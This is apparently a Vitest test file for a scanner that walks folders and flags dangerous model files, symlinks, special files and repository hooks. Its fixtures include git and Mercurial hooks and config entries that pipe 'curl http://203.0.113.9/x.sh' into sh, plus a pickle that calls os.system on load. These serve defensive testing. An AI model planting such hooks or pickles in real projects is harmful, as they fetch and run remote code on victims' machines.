/** What a folder can hold besides files that can be read: each is reported, and the rest still scanned. */
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { ScanStop, type Format } from '../../src/supply/contract.ts';
import { openFile } from '../../src/supply/input.ts';
import { scanEntry, walk } from '../../src/supply/walk.ts';
import { assemble } from '../support/pickle-assembler.ts';

let folder: string;
beforeEach(() => { folder = mkdtempSync(join(tmpdir(), 'sallyport-walk-')); });
afterEach(() => { rmSync(folder, { recursive: true, force: true }); });

const harmless = assemble('PROTO 2; EMPTY_DICT; STOP');

function verdicts(path = folder): Record<string, string> {
  return Object.fromEntries([...walk(path)].map((entry) => {
    const { verdict, findings } = scanEntry(entry);
    return [entry.path.slice(folder.length + 1), [verdict, ...findings.map(({ rule }) => rule)].join(' ')];
  }));
}

describe('walking', () => {
  test('links inside are followed, those that leave are not, circles end', () => {
    mkdirSync(join(folder, 'a/b'), { recursive: true });
    writeFileSync(join(folder, 'a/m.pkl'), harmless);
    symlinkSync('..', join(folder, 'a/b/up'));
    symlinkSync('m.pkl', join(folder, 'a/n.pkl'));
    symlinkSync('/etc', join(folder, 'out'));
    symlinkSync('one', join(folder, 'two'));
    symlinkSync('two', join(folder, 'one'));
    expect(verdicts()).toEqual({ 'a/m.pkl': 'benign', 'a/n.pkl': 'benign', one: 'unscanned file.link-broken', out: 'unscanned file.link-outside', two: 'unscanned file.link-broken' });
  });

  test('of a repository, what its tools run or take commands from is read', () => {
    for (const path of ['.git/hooks', '.git/objects/ab', '.git/modules/lib/x/hooks', '.git/refs/heads', '.svn', '.hg', 'hooks']) mkdirSync(join(folder, path), { recursive: true });
    const hook = '#!/bin/sh\ncurl http://203.0.113.9/x.sh | sh\n';
    for (const path of ['.git/hooks/post-checkout', '.git/modules/lib/x/hooks/post-merge', 'hooks/post-checkout']) writeFileSync(join(folder, path), hook);
    for (const path of ['.git/config', '.git/modules/lib/x/config']) writeFileSync(join(folder, path), '[core]\n\tfsmonitor = "curl http://203.0.113.9/x.sh | sh"\n');
    writeFileSync(join(folder, '.hg/hgrc'), '[hooks]\nupdate = curl http://203.0.113.9/x.sh | sh\n');
    for (const path of ['.git/HEAD', '.git/refs/heads/main', '.git/modules/lib/x/HEAD']) writeFileSync(join(folder, path), 'ref: refs/heads/main\n');
    for (const path of ['.svn/wc.db', '.hg/dirstate']) writeFileSync(join(folder, path), harmless);
    writeFileSync(join(folder, '.git/index'), 'DIRC\0\0\0\x02\0\0\0\0');
    writeFileSync(join(folder, '.git/objects/ab/cd'), deflateSync(Buffer.from('blob 13\0no model here')));
    const found = Object.entries(verdicts()).map(([path, said]) => `${path} ${said.split(' ').slice(0, 2).join(' ')}`).sort();
    expect(found).toEqual([
      '.git/config malicious ini.dangerous-code', '.git/hooks/post-checkout malicious shell.dangerous-command', '.git/modules/lib/x/config malicious ini.dangerous-code',
      '.git/modules/lib/x/hooks/post-merge malicious shell.dangerous-command', '.hg/hgrc malicious ini.dangerous-code', 'hooks/post-checkout malicious shell.dangerous-command',
    ]);
  });

  test('of what git keeps, models are read, under whatever name', () => {
    for (const path of ['.git/objects/ab', '.git/extra', '.git/lfs/objects', '.git/modules/lib/objects/cd']) mkdirSync(join(folder, path), { recursive: true });
    const acts = assemble('GLOBAL os system; STRING id; TUPLE1; REDUCE; STOP');
    const kept = deflateSync(Buffer.concat([Buffer.from(`blob ${acts.length}\0`), acts]));
    for (const path of ['.git/objects/ab/0123456789', '.git/modules/lib/objects/cd/0123456789']) writeFileSync(join(folder, path), kept);
    for (const path of ['.git/weights', '.git/extra/x', '.git/objects/y.pkl', '.git/lfs/objects/z']) writeFileSync(join(folder, path), acts);
    writeFileSync(join(folder, '.git/notes.txt'), 'nothing to see');
    execFileSync('mkfifo', [join(folder, '.git/fsmonitor.ipc')]);
    expect(Object.keys(verdicts()).sort()).toEqual(['.git/extra/x', '.git/modules/lib/objects/cd/0123456789', '.git/objects/ab/0123456789', '.git/objects/y.pkl', '.git/weights']);
    expect(new Set(Object.values(verdicts()).map((said) => said.split(' ').slice(0, 2).join(' ')))).toEqual(new Set(['malicious pickle.dangerous-call']));
  });

  test('pipes, sockets and devices are not read', async () => {
    writeFileSync(join(folder, 'm.pkl'), harmless);
    execFileSync('mkfifo', [join(folder, 'p.pkl')]);
    const server = createServer().listen(join(folder, 's'));
    await new Promise((resolve) => server.once('listening', resolve));
    try {
      expect(verdicts()).toEqual({ 'm.pkl': 'benign', 'p.pkl': 'unscanned file.not-regular', s: 'unscanned file.not-regular' });
    } finally {
      server.close();
    }
    expect([...walk('/dev/null')].map((entry) => scanEntry(entry).findings[0]?.rule)).toEqual(['file.not-regular']);
  });

  test('a pipe that takes the place of a listed file does not block', () => {
    writeFileSync(join(folder, 'm.pkl'), harmless);
    const [entry] = [...walk(folder)];
    rmSync(join(folder, 'm.pkl'));
    execFileSync('mkfifo', [join(folder, 'm.pkl')]);
    expect(entry === undefined ? undefined : scanEntry(entry).findings[0]?.rule).toBe('file.not-regular');
  });

  test('names that are not UTF-8 are shown with their bytes, and opened', () => {
    writeFileSync(Buffer.concat([Buffer.from(`${folder}/m`), Buffer.from([0xff]), Buffer.from('.pkl')]), assemble('GLOBAL os system; STRING id; TUPLE1; REDUCE; STOP'));
    expect(verdicts()).toEqual({ 'm\\xff.pkl': 'malicious pickle.dangerous-call file.name-not-utf8' });
  });

  test('what is missing or empty is said', () => {
    writeFileSync(join(folder, 'e.pkl'), '');
    writeFileSync(join(folder, '__init__.py'), '');
    expect(verdicts()).toEqual({ '__init__.py': 'benign file.empty', 'e.pkl': 'unscanned file.empty-model' });
    expect([...walk(join(folder, 'missing'))].map((entry) => scanEntry(entry).verdict)).toEqual(['unscanned']);
  });
});

describe('a file that changes', () => {
  const change = (work: () => void): Format => ({
    id: 'changing', title: 'A format that changes its file', extensions: [], carriesCode: false, rules: [], detect: () => 'signature',
    scan: (input) => { work(); input.read(Math.max(0, input.size - 1), 1); },
  });

  test('is unscanned when it was written meanwhile', () => {
    const path = join(folder, 'm.bin');
    writeFileSync(path, Buffer.alloc(300_000));
    const [entry] = [...walk(path)];
    const report = entry === undefined ? undefined : scanEntry(entry, { formats: [change(() => { writeFileSync(path, Buffer.alloc(300_001)); })] });
    expect([report?.verdict, report?.findings.map(({ rule }) => rule)]).toEqual(['unscanned', ['file.changed']]);
  });

  test('is unscanned when it became shorter', () => {
    const path = join(folder, 'm.bin');
    writeFileSync(path, Buffer.alloc(300_000));
    const file = openFile(path, 'm.bin');
    truncateSync(path, 10);
    expect(() => file.read(200_000, 10)).toThrow(ScanStop);
    expect(file.unchanged()).toBe(false);
    file.close();
  });
});
